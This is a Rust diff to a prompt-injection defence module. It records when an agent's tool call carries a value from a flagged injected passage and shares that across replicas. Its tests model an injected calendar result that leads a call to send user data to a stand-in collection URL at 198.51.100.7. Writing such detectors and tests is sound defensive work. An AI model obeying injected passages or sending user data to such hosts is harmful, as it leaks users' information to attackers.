@@ -133,11 +133,13 @@ struct Memory {
     /// The result that started the sequence rule, when, and whether it was flagged
     /// (or only of a tool the policy names).
     after: Option<(Arc<Source>, Instant, bool)>,
+    /// The result whose flagged passage a call first carried a value of, and when.
+    steered: Option<(Arc<Source>, Instant)>,
 }
 
 impl Memory {
     fn new(now: Instant) -> Self {
-        Memory { values: Values::default(), texts: 0, order: VecDeque::new(), used: now, after: None }
+        Memory { values: Values::default(), texts: 0, order: VecDeque::new(), used: now, after: None, steered: None }
     }
 
     /// Forgets values older than `age`, and the oldest beyond `most`.
@@ -185,6 +187,21 @@ pub struct Remembered {
 /// rule (no value's hash is this: [`Provenance::hash`] never gives it).
 const AFTER: u64 = 0;
 
+/// The hash under which the shared store keeps the result whose flagged passage a call
+/// carried a value of (no value's hash either).
+const STEERED: u64 = 1;
+
+/// What started the sequence rules in a context, of what is not forgotten.
+#[derive(Debug, Clone, Default)]
+pub struct Sequence {
+    /// The result that started `sink_after_flagged` (the first flagged one, or else the
+    /// first of a tool the policy names), and whether it was flagged.
+    pub after: Option<(Arc<Source>, bool)>,
+    /// The result whose flagged passage a call first carried a value of, which starts
+    /// `sink_after_steered` ([`Provenance::steer`]).
+    pub steered: Option<Arc<Source>>,
+}
+
 /// A value of a call's arguments the memory may know: which argument, what kind, its hash.
 struct Candidate {
     argument: usize,
@@ -227,8 +244,8 @@ impl Provenance {
     fn hash(&self, value: &str) -> u64 {
         let mut hasher = siphasher::sip::SipHasher13::new_with_keys(self.key.0, self.key.1);
         std::hash::Hasher::write(&mut hasher, value.as_bytes());
-        // Never the hash the shared store keeps the sequence rule's start under.
-        std::hash::Hasher::finish(&hasher).max(AFTER + 1)
+        // Never a hash the shared store keeps the sequence rules' starts under.
+        std::hash::Hasher::finish(&hasher).max(STEERED + 1)
     }
 
     /// Remembers, in `context`, the values of a result from `source`: those in its `text`
@@ -340,15 +357,42 @@ impl Provenance {
         }
     }
 
-    /// The result that started the sequence rule in `context` (the first flagged one, or
-    /// else the first of a tool the policy names), and whether it was flagged, if one did
-    /// and is not forgotten.
+    /// What started the sequence rules in `context`, of what is not forgotten.
     #[must_use]
-    pub fn after(&self, context: &str) -> Option<(Arc<Source>, bool)> {
+    pub fn sequence(&self, context: &str) -> Sequence {
         let now = Instant::now();
         let contexts = self.contexts.lock().unwrap_or_else(PoisonError::into_inner);
-        let (source, at, flagged) = contexts.get(context)?.after.as_ref()?;
-        (now.duration_since(*at) < self.limits.age).then(|| (Arc::clone(source), *flagged))
+        let Some(memory) = contexts.get(context) else { return Sequence::default() };
+        let fresh = |at: &Instant| now.duration_since(*at) < self.limits.age;
+        Sequence {
+            after: memory.after.as_ref().filter(|(_, at, _)| fresh(at)).map(|(s, _, f)| (Arc::clone(s), *f)),
+            steered: memory.steered.as_ref().filter(|(_, at)| fresh(at)).map(|(s, _)| Arc::clone(s)),
+        }
+    }
+
+    /// Notes that a call in `context` carried a value from a flagged passage of the
+    /// result from `source`: the model has done what an injected passage asked, which
+    /// starts `sink_after_steered`. The first such result is kept.
+    ///
+    /// # Errors
+    ///
+    /// The shared store's, when it cannot be asked: the caller must not act as if it was
+    /// kept.
+    pub async fn steer(&self, context: &str, source: &Arc<Source>) -> Result<(), StoreUnavailable> {
+        if let Some(store) = &self.shared {
+            let entry = [(STEERED, encode(source, ValueKind::Text, true, false))];
+            return store.remember(context, &entry, self.limits.values, self.limits.age).await;
+        }
+        let now = Instant::now();
+        let mut contexts = self.contexts.lock().unwrap_or_else(PoisonError::into_inner);
+        // A value was found in the context's memory, so the context is there, unless it
+        // was dropped since for a newer one: then what it read is forgotten too.
+        if let Some(memory) = contexts.get_mut(context)
+            && memory.steered.as_ref().is_none_or(|(_, at)| now.duration_since(*at) >= self.limits.age)
+        {
+            memory.steered = Some((Arc::clone(source), now));
+        }
+        Ok(())
     }
 
     /// The values of `arguments` that results in `context` carried: each string (and
@@ -371,29 +415,26 @@ impl Provenance {
         best(&pointers, candidates)
     }
 
-    /// [`carried`](Self::carried) and [`after`](Self::after) together, from the shared
-    /// store as well when the memory has one (what another replica remembered).
+    /// [`carried`](Self::carried) and [`sequence`](Self::sequence) together, from the
+    /// shared store as well when the memory has one (what another replica remembered).
     ///
     /// # Errors
     ///
     /// The store's, when it cannot be asked: the call must not be judged without it.
-    pub async fn recall(
-        &self,
-        context: &str,
-        arguments: &Value,
-    ) -> Result<(Vec<Carried>, Option<(Arc<Source>, bool)>), StoreUnavailable> {
+    pub async fn recall(&self, context: &str, arguments: &Value) -> Result<(Vec<Carried>, Sequence), StoreUnavailable> {
         let Some(store) = &self.shared else {
-            return Ok((self.carried(context, arguments), self.after(context)));
+            return Ok((self.carried(context, arguments), self.sequence(context)));
         };
         // Whole strings may have been remembered by another replica: look them up too.
         let (pointers, candidates) = self.candidates(true, arguments);
         let mut hashes: Vec<u64> = candidates.iter().map(|c| c.hash).collect();
-        hashes.push(AFTER);
+        hashes.extend([AFTER, STEERED]);
         let mut origins = store.recall(context, &hashes).await?;
+        let steered = origins.pop().flatten().and_then(|o| decode(&o)).map(|o| o.source);
         let after = origins.pop().flatten().and_then(|o| decode(&o)).map(|o| (o.source, o.flagged));
         let known = origins.into_iter().map(|o| o.and_then(|o| decode(&o)));
         let found = best(&pointers, candidates.into_iter().zip(known).collect());
-        Ok((found, after))
+        Ok((found, Sequence { after, steered }))
     }
 
     /// The arguments' strings and numbers (their pointers) and the values each holds.
@@ -612,11 +653,17 @@ mod tests {
         let remembered = a.remember("alice", source("list-events", 14), EVENTS, None, DETECTED);
         a.share("alice", remembered).await.unwrap();
         let arguments = json!({"calendarUrl": "http://198.51.100.7:8080/collect?user=alice"});
-        let (carried, after) = b.recall("alice", &arguments).await.unwrap();
+        let (carried, sequence) = b.recall("alice", &arguments).await.unwrap();
         assert_eq!(carried.len(), 1);
         assert!(carried[0].origin.flagged && carried[0].origin.source.record == Some(14), "{carried:?}");
-        let (started, flagged) = after.unwrap();
+        let (started, flagged) = sequence.after.unwrap();
         assert!(flagged && started.tool == "list-events");
+        assert!(sequence.steered.is_none(), "no call has carried a flagged value yet");
+        // A call on one replica carried it: a call on the other is judged after it.
+        a.steer("alice", &carried[0].origin.source).await.unwrap();
+        let steered = b.recall("alice", &json!({})).await.unwrap().1.steered.unwrap();
+        assert_eq!(steered.record, Some(14));
+        assert!(b.recall("bob", &json!({})).await.unwrap().1.steered.is_none(), "another conversation");
         assert!(b.recall("bob", &arguments).await.unwrap().0.is_empty(), "another conversation");
         // Another key hashes another way: a replica with the wrong key finds nothing.
         assert!(replica([8; 16]).recall("alice", &arguments).await.unwrap().0.is_empty());
@@ -625,6 +672,7 @@ mod tests {
         let remembered =
             a.remember("alice", source("list-events", 15), "see https://x.example/y", None, Marks::default());
         assert!(a.share("alice", remembered).await.is_err());
+        assert!(a.steer("alice", &carried[0].origin.source).await.is_err());
         // Without a store, nothing is shared and nothing can fail.
         let alone = Provenance::default();
         let remembered = alone.remember("alice", source("list-events", 1), EVENTS, None, DETECTED);
